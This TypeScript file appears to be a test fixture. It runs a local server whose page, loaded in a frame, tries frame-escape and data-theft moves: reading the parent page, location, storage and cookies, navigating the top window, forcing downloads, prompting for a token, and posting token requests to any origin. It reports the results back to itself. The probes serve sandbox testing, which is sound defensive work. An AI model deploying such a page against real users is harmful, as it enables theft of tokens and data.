// A site of others whose page tries whatever a page in a frame may try, and that keeps every request it got.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What is tried; each tells the site its name and what came of it: a value, «asked», or «refused». */
const attempts: Readonly<Record<string, string>> = {
  parent: 'return parent.document.body.innerText',
  address: 'return parent.location.href',
  storage: 'return parent.localStorage.length',
  ownStorage: 'return localStorage.length',
  cookie: 'return document.cookie',
  window: "return window.open('/opened') === null ? 'refused' : 'a window'",
  top: "top.location.href = '/top'; return 'asked'",
  outer: "parent.location = '/parent'; return 'asked'",
  download:
    "const a = document.createElement('a'); a.href = '/download'; a.download = 'x'; a.click(); return 'asked'",
  blank:
    "const a = document.createElement('a'); a.href = '/blank'; a.target = '_blank'; a.click(); return 'asked'",
  question: "return prompt('token') === null ? 'refused' : 'an answer'",
  token: `for (const data of ['token', { type: 'getToken' }, { id: 1, call: 'account.token' }])
    parent.postMessage(data, '*'); return 'asked'`,
};

const hostilePage = `<!doctype html><title>x</title><script>
const told = (what) => fetch('/told?' + encodeURIComponent(what), { mode: 'no-cors', keepalive: true });
addEventListener('message', (event) => told('answer=' + JSON.stringify(event.data)));
const attempt = (name, work) => {
  let got = 'refused';
  try { got = String(work()); } catch {}
  return told(name + '=' + got);
};
const all = [${Object.entries(attempts)
  .map(([name, work]) => `attempt('${name}', () => { ${work} })`)
  .join(',\n')}];
Promise.allSettled(all).then(() => setTimeout(() => location.replace('/again?1'), 300));
</script>`;

/** The site; disposing of it breaks off whatever still asks. */
export class HostileSite {
  readonly #server: Server;
  readonly asked: { url: string; headers: IncomingHttpHeaders }[] = [];
  readonly attempts = Object.keys(attempts);

  private constructor() {
    this.#server = createServer((request, answer) => {
      const { url = '/', headers } = request;
      this.asked.push({ url, headers });
      const round = /^\/again\?(\d+)$/u.exec(url)?.[1];
      // Without end: each page leads to the next, slowly enough for whoever shows it.
      const next = `<script>setTimeout(() => location.replace('/again?${Number(round) + 1}'), 100)</script>`;
      // A file that nobody asked for; where it is refused, the page that led here goes on.
      const kept = url === '/download' ? { 'content-disposition': 'attachment; filename="x.html"' } : {};
      answer
        .writeHead(200, { 'content-type': 'text/html', ...kept })
        .end(round === undefined ? (url === '/' ? hostilePage : '') : next);
    });
  }

  static async start(): Promise<HostileSite> {
    const site = new HostileSite();
    await new Promise<void>((done) => site.#server.listen(0, '127.0.0.1', done));
    return site;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
  }

  /** What its page told it, as «name=what came of it». */
  get told(): readonly string[] {
    return this.asked.flatMap(({ url }) =>
      url.startsWith('/told?') ? [decodeURIComponent(url.slice('/told?'.length))] : [],
    );
  }

  /** How often it has led its page on. */
  get rounds(): number {
    return this.asked.filter(({ url }) => url.startsWith('/again?')).length;
  }

  async [Symbol.asyncDispose](): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise<void>((done) => this.#server.close(() => done()));
  }
}
